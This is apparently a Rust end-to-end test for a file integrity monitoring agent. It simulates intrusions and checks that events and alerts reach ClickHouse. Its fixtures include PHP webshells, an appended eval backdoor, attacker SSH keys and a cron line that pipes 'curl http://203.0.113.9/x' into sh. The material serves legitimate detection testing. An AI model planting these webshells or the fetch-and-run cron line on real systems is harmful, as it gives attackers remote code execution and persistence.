//! File integrity monitoring end to end: the real agent binary, real inotify on
//! the real paths the rules and the default watch list name (`/var/www`,
//! `/root/.ssh`, `/etc/cron.d`, `/home`, each an empty tmpfs inside a private mount
//! namespace, see [`IsolatedHost`]), shipping over mutual TLS to a real collector
//! that stores into the local ClickHouse server. The agent runs with the
//! production `[file]` defaults (no watch set configured).
//!
//! - a webshell dropped in the web root (by `www-data`), pages defaced (rewritten
//!   in place, replaced by `sed -i`, a staged copy moved over), an upload renamed
//!   to a script, a key appended to root's `authorized_keys`, a new account's
//!   `.ssh`, a cron file added, a user crontab where no cron spool existed, a
//!   backdoor appended to a script: each is one stored FileEvent with the right
//!   op, path, owner and SHA-256 before/after (compared with the real
//!   `sha256sum`), and raises the rule's alert (`alerts --json`) naming that
//!   event; the agent's heartbeats carry its file counters;
//! - files created, modified and deleted while the agent is stopped (SIGTERM, and
//!   later kill -9) are stored after it starts again (source `file_baseline`),
//!   once each, with the hashes `sha256sum` printed before and after.

use std::time::Duration;

use serde_json::Value;
use shaobing_tests::file_host::{
    IsolatedHost, STARTED, configure_fim_agent, file_events_where, rule_id, stored_file_events,
};
use shaobing_tests::{Agent, Collector, clickhouse_query, unique_database, wait_for};

/// The directories the test owns inside its namespace (`/home` starts empty).
const OWNED: [&str; 4] = ["/var/www", "/root/.ssh", "/etc/cron.d", "/home"];
/// Only events under these paths are judged (the agent also watches the host's
/// real `/etc/passwd`, `/etc/pam.d`, ... which other processes may touch).
const OWNED_CONDITION: &str = "startsWith(file_path, '/var/www/') \
     OR startsWith(file_path, '/root/.ssh/') OR startsWith(file_path, '/etc/cron.d/') \
     OR startsWith(file_path, '/home/')";
/// How long any one expectation may take to show up in ClickHouse.
const PATIENCE: Duration = Duration::from_secs(30);

const INDEX_V1: &[u8] = b"<html><body><h1>Welcome to the city portal</h1></body></html>\n";
const NEWS_V1: &[u8] = b"<html><body><p>News of the day</p></body></html>\n";
const KEYS_V1: &[u8] = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOps admin@bastion\n";
const WEBSHELL: &[u8] = b"<?php @eval($_POST['cmd']); ?>\n";

/// A script of the site, longer than the content sample (8 KiB).
fn login_php() -> Vec<u8> {
    let mut body = b"<?php\nrequire __DIR__ . '/lib/bootstrap.php';\n".to_vec();
    while body.len() < 8192 {
        body.extend_from_slice(b"echo render_field($form, 'user', ['maxlength' => 64]);\n");
    }
    body
}

/// A collector on ClickHouse database `db` and an enrolled agent (not started).
fn collector_and_agent(dir: &std::path::Path, db: &str) -> (Collector, Agent) {
    let collector = Collector::start(&dir.join("collector"), Some(db)).expect("collector starts");
    let agent =
        configure_fim_agent(&dir.join("agent"), collector.data_port, "").expect("agent config");
    let token = collector.token().expect("token");
    let out = agent.enroll(&collector, &token).expect("enroll runs");
    assert!(
        out.status.success(),
        "enroll failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (collector, agent)
}

/// The namespace with a served site and root's keys in place (before any agent runs).
fn host_with_site(dir: &std::path::Path) -> IsolatedHost {
    let host = IsolatedHost::start(dir, &OWNED).expect("mount namespace (needs root)");
    // The web server's user may write the document root (as CMS installs do).
    host.sh(
        "mkdir -p /var/www/html && chown www-data: /var/www/html && chmod 700 /root/.ssh",
        &[],
        b"",
    )
    .unwrap();
    host.write("/var/www/html/index.html", INDEX_V1).unwrap();
    host.write("/var/www/html/news.html", NEWS_V1).unwrap();
    host.write("/var/www/html/about.html", b"<p>about us</p>\n")
        .unwrap();
    host.write("/var/www/html/login.php", &login_php()).unwrap();
    host.write("/root/.ssh/authorized_keys", KEYS_V1).unwrap();
    host.sh("chmod 600 /root/.ssh/authorized_keys", &[], b"")
        .unwrap();
    host.write(
        "/etc/cron.d/backup",
        b"30 2 * * * root /usr/local/bin/backup\n",
    )
    .unwrap();
    host
}

/// Starts the agent in `host` and waits for its start-up diff to be done.
fn run_agent(host: &IsolatedHost, agent: &mut Agent) {
    host.run_agent(agent).expect("agent starts");
    let started = wait_for(PATIENCE, || {
        agent.log_text().contains(STARTED).then_some(())
    });
    assert!(
        started.is_some(),
        "file monitoring did not start:\n{}",
        agent.log_text()
    );
    let log = agent.log_text();
    if let Some(line) = log.lines().find(|l| l.contains(STARTED)) {
        eprintln!("agent: {line}");
    }
}

/// Waits until ClickHouse holds `count` file events for `path`; returns them.
fn wait_events(db: &str, path: &str, count: usize, what: &str, agent: &Agent) -> Vec<Value> {
    let found = wait_for(PATIENCE, || {
        let events = stored_file_events(db, path).ok()?;
        (events.len() >= count).then_some(events)
    });
    found.unwrap_or_else(|| {
        panic!(
            "{what}: expected {count} stored event(s) for {path}, got {:?}\nagent log:\n{}",
            stored_file_events(db, path),
            agent.log_text()
        )
    })
}

fn field<'a>(event: &'a Value, name: &str) -> &'a str {
    event[name]
        .as_str()
        .unwrap_or_else(|| panic!("no {name} in {event}"))
}

/// Checks the fields every stored file event of this test shares (files written
/// by root unless the test says otherwise with [`assert_owner`]).
fn assert_event(event: &Value, op: &str, path: &str, root: &str, source: &str, agent_id: &str) {
    assert_common(event, op, path, root, source, agent_id);
    assert_owner(event, "root", "0");
}

/// Who: the owner after the change (name and uid).
fn assert_owner(event: &Value, owner: &str, uid: &str) {
    assert_eq!(field(event, "file_owner"), owner, "{event}");
    assert_eq!(field(event, "uid"), uid, "{event}");
}

fn assert_common(event: &Value, op: &str, path: &str, root: &str, source: &str, agent_id: &str) {
    assert_eq!(field(event, "file_op"), op, "{event}");
    assert_eq!(field(event, "file_path"), path, "{event}");
    assert_eq!(field(event, "file_watched_root"), root, "{event}");
    assert_eq!(field(event, "source"), source, "{event}");
    assert_eq!(
        field(event, "agent_id"),
        agent_id,
        "identity from the certificate"
    );
    assert!(!field(event, "event_id").is_empty(), "{event}");
    // The process is unknown to inotify: left empty, never guessed.
    assert_eq!((field(event, "pid"), field(event, "exe")), ("0", ""));
}

/// Waits for an alert of rule `rule` (in `rules/file/`) that names `event`.
fn wait_alert(collector: &Collector, rule: &str, event: &Value, level: &str) -> Value {
    let id = rule_id("file", rule).unwrap();
    let event_id = field(event, "event_id").to_string();
    let path = field(event, "file_path").to_string();
    let found = wait_for(PATIENCE, || {
        collector.alerts_json().ok()?.into_iter().find(|a| {
            a["rule_id"] == id.as_str()
                && a["event_ids"]
                    .as_array()
                    .is_some_and(|ids| ids.iter().any(|i| *i == event_id.as_str()))
        })
    });
    let alert = found.unwrap_or_else(|| {
        panic!(
            "no {rule} alert for {path} (event {event_id}); alerts: {:#?}",
            collector.alerts_json()
        )
    });
    assert_eq!(alert["level"], level, "{alert}");
    assert!(
        alert["summary"].as_str().unwrap_or("").contains(&path),
        "the summary names the file: {alert}"
    );
    assert!(
        !alert["mlps"].as_array().unwrap().is_empty(),
        "等保 clauses attached: {alert}"
    );
    alert
}

#[test]
fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let db = unique_database("sb_fim");
    let host = host_with_site(dir.path());
    let (collector, mut agent) = collector_and_agent(dir.path(), &db);
    let agent_id = agent.agent_id().unwrap();
    let index_v1_sha = host.sha256sum("/var/www/html/index.html").unwrap();
    let news_v1_sha = host.sha256sum("/var/www/html/news.html").unwrap();
    let keys_v1_sha = host.sha256sum("/root/.ssh/authorized_keys").unwrap();
    run_agent(&host, &mut agent);

    // 1. A webshell dropped into the web root by the web server's user.
    let shell = "/var/www/html/shell.php";
    host.sh(
        "setpriv --reuid=www-data --regid=www-data --clear-groups \
         sh -c 'printf %s \"$2\" > \"$1\"' sh \"$1\" \"$2\"",
        &[shell, std::str::from_utf8(WEBSHELL).unwrap()],
        b"",
    )
    .unwrap();
    let shell_sha = host.sha256sum(shell).unwrap();
    let events = wait_events(&db, shell, 1, "webshell", &agent);
    let created = &events[0];
    assert_common(created, "create", shell, "/var/www", "inotify", &agent_id);
    assert_owner(created, "www-data", "33");
    assert_eq!(field(created, "file_hash_before"), "");
    assert_eq!(field(created, "file_hash_after"), shell_sha);
    assert_eq!(field(created, "size"), WEBSHELL.len().to_string());
    let mode: u32 = field(created, "mode").parse().unwrap();
    assert_eq!(mode & 0o170000, 0o100000, "a regular file: {mode:o}");
    assert!(field(created, "mtime_ns").parse::<i64>().unwrap() > 0);
    assert_eq!(
        field(created, "file_content_sample").as_bytes(),
        WEBSHELL,
        "web roots carry the content sample"
    );
    wait_alert(&collector, "web_script_created", created, "high");
    wait_alert(&collector, "webshell_content", created, "critical");

    // 2. The home page defaced in place (truncate and write, like `echo >`).
    let index = "/var/www/html/index.html";
    host.write(index, b"<html><body><h1>Hacked by x</h1></body></html>\n")
        .unwrap();
    let index_v2_sha = host.sha256sum(index).unwrap();
    let events = wait_events(&db, index, 1, "defacement", &agent);
    assert_event(
        &events[0], "modify", index, "/var/www", "inotify", &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_before"), index_v1_sha);
    assert_eq!(field(&events[0], "file_hash_after"), index_v2_sha);
    assert!(field(&events[0], "file_content_sample").contains("Hacked by x"));
    wait_alert(&collector, "web_page_tampering", &events[0], "medium");

    // 3. Another page replaced atomically (`sed -i` writes a temporary file and
    //    renames it over the page): still a modification of the page.
    let news = "/var/www/html/news.html";
    host.sh("sed -i 's/News of the day/Hacked/' \"$1\"", &[news], b"")
        .unwrap();
    let news_v2_sha = host.sha256sum(news).unwrap();
    let events = wait_events(&db, news, 1, "sed -i", &agent);
    assert_event(&events[0], "modify", news, "/var/www", "inotify", &agent_id);
    assert_eq!(field(&events[0], "file_hash_before"), news_v1_sha);
    assert_eq!(field(&events[0], "file_hash_after"), news_v2_sha);
    assert!(
        field(&events[0], "file_old_path").starts_with("/var/www/html/sed"),
        "old_path names sed's temporary file: {}",
        events[0]
    );
    wait_alert(&collector, "web_page_tampering", &events[0], "medium");

    // 3b. A defaced copy staged next to a page (seen and reported as created),
    //     then moved over it: the page's content was replaced, so this too is a
    //     modification of the page, from the page's old content to the new one.
    let about = "/var/www/html/about.html";
    let about_v1_sha = host.sha256sum(about).unwrap();
    let staged = "/var/www/html/about.html.new";
    host.write(staged, b"<p>hacked by y</p>\n").unwrap();
    wait_events(&db, staged, 1, "staged page", &agent);
    host.sh("mv \"$1\" \"$2\"", &[staged, about], b"").unwrap();
    let about_v2_sha = host.sha256sum(about).unwrap();
    let events = wait_events(&db, about, 1, "mv over a page", &agent);
    assert_event(
        &events[0], "modify", about, "/var/www", "inotify", &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_before"), about_v1_sha);
    assert_eq!(field(&events[0], "file_hash_after"), about_v2_sha);
    assert_eq!(field(&events[0], "file_old_path"), staged);
    wait_alert(&collector, "web_page_tampering", &events[0], "medium");

    // 4. An upload renamed to a script (upload filters check the first name only).
    let upload = "/var/www/html/avatar.jpg";
    host.write(upload, b"<?php system($_GET['c']); ?>\n")
        .unwrap();
    wait_events(&db, upload, 1, "upload", &agent);
    let renamed = "/var/www/html/avatar.php";
    host.sh("mv \"$1\" \"$2\"", &[upload, renamed], b"")
        .unwrap();
    let renamed_sha = host.sha256sum(renamed).unwrap();
    let events = wait_events(&db, renamed, 1, "rename", &agent);
    assert_event(
        &events[0], "rename", renamed, "/var/www", "inotify", &agent_id,
    );
    assert_eq!(field(&events[0], "file_old_path"), upload);
    assert_eq!(field(&events[0], "file_hash_before"), renamed_sha);
    assert_eq!(field(&events[0], "file_hash_after"), renamed_sha);
    wait_alert(&collector, "web_script_created", &events[0], "high");
    wait_alert(&collector, "webshell_content", &events[0], "critical");

    // 5. A key appended to root's authorized_keys.
    let keys = "/root/.ssh/authorized_keys";
    host.append(
        keys,
        b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 mallory@evil\n",
    )
    .unwrap();
    let keys_v2_sha = host.sha256sum(keys).unwrap();
    let events = wait_events(&db, keys, 1, "authorized_keys", &agent);
    assert_event(
        &events[0],
        "modify",
        keys,
        "/root/.ssh",
        "inotify",
        &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_before"), keys_v1_sha);
    assert_eq!(field(&events[0], "file_hash_after"), keys_v2_sha);
    assert_eq!(
        field(&events[0], "file_content_sample"),
        "",
        "no content sample outside web roots"
    );
    assert_eq!(field(&events[0], "mode"), (0o100600).to_string());
    wait_alert(&collector, "authorized_keys_changed", &events[0], "high");

    // 6. A cron file added.
    let cron = "/etc/cron.d/update";
    host.write(cron, b"* * * * * root curl -s http://203.0.113.9/x | sh\n")
        .unwrap();
    let cron_sha = host.sha256sum(cron).unwrap();
    let events = wait_events(&db, cron, 1, "cron", &agent);
    assert_event(
        &events[0],
        "create",
        cron,
        "/etc/cron.d",
        "inotify",
        &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_before"), "");
    assert_eq!(field(&events[0], "file_hash_after"), cron_sha);
    wait_alert(&collector, "cron_persistence", &events[0], "medium");

    // 7. A new account's .ssh directory and keys appear (`/home/*/.ssh` is
    //    watched for before it exists).
    let new_keys = "/home/deploy/.ssh/authorized_keys";
    host.sh(
        "mkdir -p /home/deploy/.ssh && printf %s \"$2\" > \"$1\"",
        &[
            new_keys,
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil mallory\n",
        ],
        b"",
    )
    .unwrap();
    let new_keys_sha = host.sha256sum(new_keys).unwrap();
    let events = wait_events(&db, new_keys, 1, "new .ssh", &agent);
    assert_event(
        &events[0],
        "create",
        new_keys,
        "/home/deploy/.ssh",
        "inotify",
        &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_after"), new_keys_sha);
    wait_alert(&collector, "authorized_keys_changed", &events[0], "high");

    // 8. A one-line backdoor appended to an existing script, far past the first
    //    4 KiB: the script's change alerts, and the sample's tail shows the code.
    let login = "/var/www/html/login.php";
    let login_v1_sha = host.sha256sum(login).unwrap();
    host.append(login, b"@eval($_POST['pass']);\n").unwrap();
    let login_v2_sha = host.sha256sum(login).unwrap();
    let events = wait_events(&db, login, 1, "backdoor appended", &agent);
    assert_event(
        &events[0], "modify", login, "/var/www", "inotify", &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_before"), login_v1_sha);
    assert_eq!(field(&events[0], "file_hash_after"), login_v2_sha);
    let sample = field(&events[0], "file_content_sample");
    assert!(sample.starts_with("<?php\nrequire"), "{sample}");
    assert!(sample.contains("\n[...]\n"), "{sample}");
    assert!(sample.ends_with("@eval($_POST['pass']);\n"), "{sample}");
    wait_alert(&collector, "web_script_modified", &events[0], "high");
    wait_alert(&collector, "webshell_content", &events[0], "critical");

    // 9. A user crontab installed the way `crontab -` does (a temporary file
    //    renamed into place) where no cron spool existed yet: `/var/spool/cron`
    //    is watched for before it exists (inside this namespace `/var` is an
    //    overlay, so nothing is written to the host).
    let crontab = "/var/spool/cron/crontabs/root";
    host.sh(
        "mkdir -p /var/spool/cron/crontabs && printf %s \"$2\" > /var/spool/cron/crontabs/tmp.1 \
         && mv /var/spool/cron/crontabs/tmp.1 \"$1\"",
        &[crontab, "@reboot /tmp/.x/kworker\n"],
        b"",
    )
    .unwrap();
    let crontab_sha = host.sha256sum(crontab).unwrap();
    let events = wait_events(&db, crontab, 1, "user crontab", &agent);
    // Whether the spool's appearance was handled before or after the rename is
    // up to the scheduler: a create, or a rename from the temporary name.
    let op = field(&events[0], "file_op");
    assert!(op == "create" || op == "rename", "{}", events[0]);
    assert_event(
        &events[0],
        op,
        crontab,
        "/var/spool/cron",
        "inotify",
        &agent_id,
    );
    assert_eq!(field(&events[0], "file_hash_after"), crontab_sha);
    wait_alert(&collector, "cron_persistence", &events[0], "medium");

    // One event per change and nothing else: the first baseline was silent, the
    // temporary file of `sed -i` never surfaced, each burst of writes was one event.
    let all = file_events_where(&db, OWNED_CONDITION).unwrap();
    let summary: Vec<(&str, &str)> = all
        .iter()
        .map(|e| (field(e, "file_op"), field(e, "file_path")))
        .collect();
    assert_eq!(
        summary,
        vec![
            ("create", shell),
            ("modify", index),
            ("modify", news),
            ("create", staged),
            ("modify", about),
            ("create", upload),
            ("rename", renamed),
            ("modify", keys),
            ("create", cron),
            ("create", new_keys),
            ("modify", login),
        ]
    );

    // The agent's heartbeats carry the file counters to ClickHouse too.
    let counter = |name: &str| {
        clickhouse_query(&format!(
            "SELECT max(counter_values[indexOf(counter_names, '{name}')]) \
             FROM {db}.events WHERE kind = 'status' AND agent_id = '{agent_id}'"
        ))
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
        .unwrap_or(0)
    };
    let reported = wait_for(PATIENCE, || {
        (counter("file.events") >= summary.len() as u64).then_some(())
    });
    assert!(
        reported.is_some() && counter("file.startups") == 1,
        "heartbeat counters: file.events={} file.startups={}",
        counter("file.events"),
        counter("file.startups")
    );
    let _ = clickhouse_query(&format!("DROP DATABASE IF EXISTS {db}"));
}

#[test]
fn changes_while_the_agent_is_stopped_are_stored_after_restart() {
    let dir = tempfile::tempdir().unwrap();
    let db = unique_database("sb_fim_restart");
    let host = host_with_site(dir.path());
    let (collector, mut agent) = collector_and_agent(dir.path(), &db);
    let agent_id = agent.agent_id().unwrap();

    // First run: the baseline is taken silently; then the agent is stopped.
    run_agent(&host, &mut agent);
    if let Some(daemon) = agent.daemon.as_mut() {
        daemon.terminate();
    }
    let index = "/var/www/html/index.html";
    let about = "/var/www/html/about.html";
    let keys = "/root/.ssh/authorized_keys";
    let backup = "/etc/cron.d/backup";
    let before: Vec<(&str, String)> = [index, about, keys, backup]
        .into_iter()
        .map(|p| (p, host.sha256sum(p).unwrap()))
        .collect();
    let sha_before = |p: &str| before.iter().find(|(q, _)| *q == p).unwrap().1.clone();

    // While it is down: a webshell and a cron file created, the home page and the
    // keys modified, a page and a cron file deleted.
    let shell = "/var/www/html/up.php";
    host.write(shell, b"<?php eval(base64_decode($_POST['z'])); ?>\n")
        .unwrap();
    host.write(index, b"<h1>defaced while nobody watched</h1>\n")
        .unwrap();
    host.append(keys, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBad mallory\n")
        .unwrap();
    let miner = "/etc/cron.d/miner";
    host.write(miner, b"*/5 * * * * root /tmp/.x/kworker\n")
        .unwrap();
    host.sh("rm \"$1\" \"$2\"", &[about, backup], b"").unwrap();
    let sha_after: Vec<(&str, String)> = [shell, index, keys, miner]
        .into_iter()
        .map(|p| (p, host.sha256sum(p).unwrap()))
        .collect();
    let sha_now = |p: &str| sha_after.iter().find(|(q, _)| *q == p).unwrap().1.clone();

    // Second run: the start-up diff reports all six changes.
    run_agent(&host, &mut agent);
    let expected = [
        (shell, "create", "/var/www"),
        (index, "modify", "/var/www"),
        (about, "delete", "/var/www"),
        (keys, "modify", "/root/.ssh"),
        (miner, "create", "/etc/cron.d"),
        (backup, "delete", "/etc/cron.d"),
    ];
    let mut stored = Vec::new();
    for (path, op, root) in expected {
        let events = wait_events(&db, path, 1, "change while stopped", &agent);
        assert_eq!(events.len(), 1, "reported once: {events:#?}");
        let event = events.into_iter().next().unwrap();
        assert_event(&event, op, path, root, "file_baseline", &agent_id);
        let (hash_before, hash_after) = match op {
            "create" => (String::new(), sha_now(path)),
            "modify" => (sha_before(path), sha_now(path)),
            _ => (sha_before(path), String::new()),
        };
        assert_eq!(field(&event, "file_hash_before"), hash_before, "{event}");
        assert_eq!(field(&event, "file_hash_after"), hash_after, "{event}");
        stored.push(event);
    }
    assert!(field(&stored[0], "file_content_sample").contains("base64_decode($_POST"));
    wait_alert(&collector, "webshell_content", &stored[0], "critical");
    wait_alert(&collector, "web_page_tampering", &stored[1], "medium");
    wait_alert(&collector, "authorized_keys_changed", &stored[3], "high");
    wait_alert(&collector, "cron_persistence", &stored[4], "medium");

    // Realtime works after the restart, and nothing was reported twice: the
    // first run's baseline was silent, the restart reported each change once.
    host.write(index, INDEX_V1).unwrap();
    let events = wait_events(&db, index, 2, "realtime after restart", &agent);
    assert_event(
        &events[1], "modify", index, "/var/www", "inotify", &agent_id,
    );
    assert_eq!(field(&events[1], "file_hash_before"), sha_now(index));
    assert_eq!(field(&events[1], "file_hash_after"), sha_before(index));
    let all = file_events_where(&db, OWNED_CONDITION).unwrap();
    assert_eq!(all.len(), expected.len() + 1, "{all:#?}");

    // A crash (kill -9) is a stop too: the webshell removed meanwhile is
    // reported as deleted, with its last known hash, after the next start.
    if let Some(daemon) = agent.daemon.as_mut() {
        daemon.kill();
    }
    host.sh("rm \"$1\"", &[shell], b"").unwrap();
    run_agent(&host, &mut agent);
    let events = wait_events(&db, shell, 2, "delete after a crash", &agent);
    assert_event(
        &events[1],
        "delete",
        shell,
        "/var/www",
        "file_baseline",
        &agent_id,
    );
    assert_eq!(field(&events[1], "file_hash_before"), sha_now(shell));
    assert_eq!(field(&events[1], "file_hash_after"), "");
    let all = file_events_where(&db, OWNED_CONDITION).unwrap();
    assert_eq!(all.len(), expected.len() + 2, "{all:#?}");
    let _ = clickhouse_query(&format!("DROP DATABASE IF EXISTS {db}"));
}
